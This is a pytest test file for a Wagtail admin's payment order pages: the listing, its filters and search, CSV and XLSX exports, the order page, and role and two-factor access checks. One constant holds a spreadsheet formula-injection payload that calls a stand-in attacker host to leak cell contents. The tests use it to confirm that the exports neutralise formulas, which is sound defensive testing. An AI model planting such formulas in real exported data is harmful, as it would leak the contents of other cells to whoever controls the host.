"""Reviewers' orders in the Wagtail admin: the listing with its filters, search and exports, one order's
page, and who may open any of it."""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone

from accounts.tests.factories import UserFactory
from courses.services import INSTRUCTORS, REVIEWERS
from courses.tests.factories import CoursePageFactory
from credits.models import REGULATORS
from payments.models import Order, OrderStatus, Refund
from payments.tests.factories import OrderFactory, deliver, payment_intent_id, stripe_event

FORMULA_NAME = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'
INDEX = reverse("payments_orders:index")


@pytest.fixture
def other_course(catalogue):
    return CoursePageFactory(parent=catalogue, title="Myofascial Release for the Shoulder", price_amount=12900)


def paid_order(course, *, created_at=None, **fields) -> Order:
    """An order Stripe has reported paid, as the webhook leaves it."""
    created_at = created_at or timezone.now()
    fields = {"status": OrderStatus.PAID, "amount_paid": course.price_amount, "paid_at": created_at, **fields}
    order = OrderFactory(course=course, created_at=created_at, **fields)
    Order.objects.filter(pk=order.pk).update(payment_intent_id=payment_intent_id(order))
    order.refresh_from_db()
    return order


def listing(client, **params) -> str:
    response = client.get(INDEX, params)
    assert response.status_code == 200
    return response.content.decode()


def listed(html: str) -> set[int]:
    """The orders in the listing's table, by the link to each one's page."""
    table = html.split('<table class="listing"', 1)[1] if '<table class="listing"' in html else ""
    return {int(pk) for pk in re.findall(r'<a href="/admin/orders/inspect/(\d+)/">\s*Order \1\s*</a>', table)}


def test_a_reviewer_sees_each_order_with_who_bought_what_for_how_much(client, reviewer, course):
    buyer = UserFactory(email="jordan@example.com", legal_name="Jordan Rivera", verified_email=True)
    order = paid_order(course, user=buyer, amount_refunded=1000, status=OrderStatus.PARTIALLY_REFUNDED)
    Order.objects.filter(pk=order.pk).update(course_title="Lymphatic Drainage (as sold in May)")
    client.force_login(reviewer)

    home = client.get(reverse("wagtailadmin_home")).content.decode()
    page = listing(client)

    assert INDEX in home and reverse("payments_sales") in home and "Orders" in home
    for text in (
        f"Order {order.pk}",
        "Jordan Rivera",
        "jordan@example.com",
        "Lymphatic Drainage (as sold in May)",
        "$49.00",
        "$10.00",
        "Partially refunded",
    ):
        assert text in page, text
    assert reverse("payments_orders:inspect", args=[order.pk]) in page


def test_the_listing_filters_by_status_course_period_and_flag(client, reviewer, course, other_course):
    now = timezone.now()
    old = paid_order(course, created_at=now - datetime.timedelta(days=40))
    recent = paid_order(other_course, created_at=now - datetime.timedelta(days=2))
    pending = OrderFactory(course=course)
    flagged = paid_order(course, flagged_at=now, flag_reason="Disputed by the cardholder (fraudulent, $49.00).")
    client.force_login(reviewer)

    def shown(**params):
        return listed(listing(client, **params))

    assert shown() == {old.pk, recent.pk, pending.pk, flagged.pk}
    assert shown(status="pending") == {pending.pk}
    assert shown(course=other_course.pk) == {recent.pk}
    week_ago = (now - datetime.timedelta(days=7)).date().isoformat()
    assert shown(created_at_from=week_ago) == {recent.pk, pending.pk, flagged.pk}
    month_ago = (now - datetime.timedelta(days=30)).date().isoformat()
    assert shown(created_at_to=month_ago) == {old.pk}
    assert shown(flagged="true") == {flagged.pk}
    assert shown(flagged="false", status="paid") == {old.pk, recent.pk}


def test_the_listing_finds_an_order_by_email_number_or_any_stripe_id(client, reviewer, course):
    jordan = paid_order(course, user=UserFactory(email="jordan.rivera@example.com", verified_email=True))
    other = paid_order(course)
    Refund.objects.create(order=other, amount=100, reason="Goodwill", requested_by=reviewer, stripe_refund_id="re_9ZZ")
    client.force_login(reviewer)

    def found(query):
        return listed(listing(client, q=query))

    assert found("jordan.rivera") == {jordan.pk}
    assert found(jordan.checkout_session_id) == {jordan.pk}
    assert found(payment_intent_id(other)) == {other.pk}
    assert found("re_9ZZ") == {other.pk}
    assert found(str(other.pk)) == {other.pk}
    assert found("nobody@example.com") == set()


def test_a_webhook_event_id_finds_its_order(client, reviewer, course):
    order = OrderFactory(course=course)
    event = stripe_event("checkout.session.completed", order=order, event_id="evt_test_findme")
    assert deliver(client, event).status_code == 200
    client.force_login(reviewer)

    assert listed(listing(client, q="evt_test_findme")) == {order.pk}


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_holds_the_filtered_orders_with_formula_text_kept_as_text(client, reviewer, course):
    buyer = UserFactory(email="formula@example.com", legal_name=FORMULA_NAME, verified_email=True)
    order = paid_order(course, user=buyer)
    OrderFactory(course=course)  # pending: filtered out
    client.force_login(reviewer)

    rows = csv_rows(client.get(INDEX, {"status": "paid", "export": "csv"}))

    header, *lines = rows
    assert header[:10] == [
        "Order number",
        "Created (America/New_York)",
        "Practitioner email",
        "Legal name",
        "Course (as bought)",
        "Currency",
        "Price",
        "Paid",
        "Refunded",
        "Status",
    ]
    assert len(lines) == 1
    line = dict(zip(header, lines[0], strict=True))
    assert line["Order number"] == str(order.pk)
    assert line["Legal name"] == f"'{FORMULA_NAME}"
    assert (line["Price"], line["Paid"], line["Refunded"], line["Status"]) == ("49.00", "49.00", "0.00", "Paid")
    assert line["Stripe PaymentIntent"] == payment_intent_id(order)


def test_the_xlsx_export_keeps_names_exactly_as_text_and_amounts_as_numbers(client, reviewer, course):
    paid_order(course, user=UserFactory(email="formula@example.com", legal_name=FORMULA_NAME, verified_email=True))
    client.force_login(reviewer)

    response = client.get(INDEX, {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("Legal name") + 1)
    paid = sheet.cell(row=2, column=header.index("Paid") + 1)
    assert (name.value, name.data_type) == (FORMULA_NAME, "s")
    assert (Decimal(str(paid.value)), paid.data_type) == (Decimal("49"), "n")


def test_the_order_page_shows_everything_on_the_order(client, reviewer, course):
    order = OrderFactory(
        course=course,
        policies_accepted="Refund policy\nIn full within 14 days if no lesson is completed.",
    )
    assert deliver(client, stripe_event("checkout.session.completed", order=order)).status_code == 200
    assert deliver(client, stripe_event("charge.dispute.created", order=order)).status_code == 200
    order.refresh_from_db()
    Refund.objects.create(
        order=order, amount=900, reason="Goodwill for a late start", requested_by=reviewer, stripe_refund_id="re_1AB"
    )
    client.force_login(reviewer)

    response = client.get(reverse("payments_orders:inspect", args=[order.pk]))

    assert response.status_code == 200
    page = response.content.decode()
    for text in (
        f"Order {order.pk}",
        order.user.email,
        order.course_title,
        "Disputed",
        "In full within 14 days if no lesson is completed.",
        "Disputed by the cardholder",  # the flag's reason
        "checkout.session.completed",
        "charge.dispute.created",
        f"order {order.pk} paid",  # the event's outcome
        "Goodwill for a late start",
        "re_1AB",
        "$9.00",
        "Order paid",  # the audit log
        "Order flagged for a reviewer",
        order.checkout_session_id,
        payment_intent_id(order),
    ):
        assert text in page, text


def test_the_order_page_gives_a_failed_orders_reason(client, reviewer, course):
    order = OrderFactory(course=course)
    assert deliver(client, stripe_event("checkout.session.expired", order=order)).status_code == 200
    client.force_login(reviewer)

    page = client.get(reverse("payments_orders:inspect", args=[order.pk])).content.decode()

    assert "Not paid" in page and "The checkout expired before it was paid." in page


def test_nobody_adds_edits_or_deletes_an_order_in_the_admin_not_even_a_superuser(client, course):
    order = paid_order(course)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    page = listing(client)
    inspect = client.get(reverse("payments_orders:inspect", args=[order.pk]))

    assert inspect.status_code == 200 and listed(page) == {order.pk}
    for url in (f"{INDEX}new/", f"{INDEX}edit/{order.pk}/", f"{INDEX}delete/{order.pk}/"):
        assert client.get(url).status_code == 404
        assert url not in page
    assert client.post(f"{INDEX}delete/{order.pk}/").status_code == 404
    assert Order.objects.filter(pk=order.pk).exists()


def admin_urls(order) -> list[tuple[str, str]]:
    return [
        ("get", INDEX),
        ("get", reverse("payments_orders:index_results")),
        ("get", f"{INDEX}?export=csv"),
        ("get", reverse("payments_orders:inspect", args=[order.pk])),
        ("post", reverse("payments_orders:refund", args=[order.pk])),
        ("post", reverse("payments_orders:review", args=[order.pk])),
        ("get", reverse("payments_sales")),
        ("get", reverse("payments_sales_results")),
        ("get", f"{reverse('payments_sales')}?export=xlsx"),
    ]


@pytest.mark.parametrize("role", ["practitioner", "instructor", "regulator", "anonymous"])
def test_people_other_than_reviewers_are_turned_away_from_every_payments_admin_page(client, course, role):
    order = paid_order(course, flagged_at=timezone.now(), flag_reason="Paid twice.")
    if role != "anonymous":
        groups = {"practitioner": [], "instructor": [INSTRUCTORS], "regulator": [REGULATORS]}[role]
        client.force_login(UserFactory(email=f"{role}@example.com", groups=groups, totp=True))

    for method, url in admin_urls(order):
        data = {"amount": "49.00", "reason": "Because", "note": "Checked"} if method == "post" else None
        response = getattr(client, method)(url, data)
        assert response.status_code in (302, 403), (url, response.status_code)
        assert "Order " not in response.content.decode()
        if response.status_code == 302:
            assert response.url.startswith((reverse("wagtailadmin_home"), reverse("account_login"))), url

    order.refresh_from_db()
    assert (order.status, order.flagged_at is not None, Refund.objects.count()) == (OrderStatus.PAID, True, 0)
    if role == "instructor":
        home = client.get(reverse("wagtailadmin_home")).content.decode()
        assert INDEX not in home and reverse("payments_sales") not in home


def test_a_reviewer_without_two_factor_is_sent_to_set_it_up_first(client, course):
    order = paid_order(course, flagged_at=timezone.now(), flag_reason="Paid twice.")
    client.force_login(UserFactory(email="new-reviewer@example.com", groups=[REVIEWERS], totp=False))

    for method, url in admin_urls(order):
        response = getattr(client, method)(url, {"amount": "49.00", "reason": "Because", "note": "Checked"})
        assert (response.status_code, response.url) == (302, reverse("mfa_activate_totp")), url

    order.refresh_from_db()
    assert (order.status, order.flagged_at is not None, Refund.objects.count()) == (OrderStatus.PAID, True, 0)


def test_a_superuser_sees_the_orders_and_sales_and_may_act_on_an_order(client, course):
    order = paid_order(course, flagged_at=timezone.now(), flag_reason="Paid twice.")
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    page = client.get(reverse("payments_orders:inspect", args=[order.pk])).content.decode()

    assert listed(listing(client)) == {order.pk}
    assert "Manual Lymphatic Drainage after Surgery" in client.get(reverse("payments_sales")).content.decode()
    assert "Refund through Stripe" in page and "Mark reviewed" in page


def test_someone_who_may_only_view_orders_sees_them_but_no_refund_or_review_form(client, course):
    viewers, _ = Group.objects.get_or_create(name="Order viewers")
    viewers.permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_order")
    )
    order = paid_order(course, flagged_at=timezone.now(), flag_reason="Paid twice.")
    client.force_login(UserFactory(email="bookkeeper@example.com", groups=["Order viewers"]))

    page = client.get(reverse("payments_orders:inspect", args=[order.pk])).content.decode()

    assert listed(listing(client)) == {order.pk}
    assert "Refunding needs the permission to refund orders." in page
    assert "Refund through Stripe" not in page and 'name="note"' not in page


# The admin's frame (session, user, two-factor check, permissions, profile, locales, the menu's page and
# collection permissions) and the listing's own: its count, the course filter's choices and the page of
# orders with their practitioners.
LISTING_QUERIES = 14
# The export's frame (session, user, two-factor check, permissions) and every order with its practitioner.
EXPORT_QUERIES = 7


@pytest.mark.parametrize("count", [3, 30])
def test_the_listing_costs_the_same_queries_for_3_and_30_orders(
    client, reviewer, course, count, django_assert_max_num_queries
):
    for _ in range(count):
        paid_order(course)
    client.force_login(reviewer)
    client.get(INDEX)  # the first admin request of a session caches what later ones reuse

    with django_assert_max_num_queries(LISTING_QUERIES):
        response = client.get(INDEX)

    assert len(listed(response.content.decode())) == count


@pytest.mark.parametrize("count", [3, 30])
def test_the_export_costs_the_same_queries_for_3_and_30_orders(
    client, reviewer, course, count, django_assert_max_num_queries
):
    for _ in range(count):
        paid_order(course)
    client.force_login(reviewer)

    with django_assert_max_num_queries(EXPORT_QUERIES):
        rows = csv_rows(client.get(INDEX, {"export": "csv"}))

    assert len(rows) == count + 1
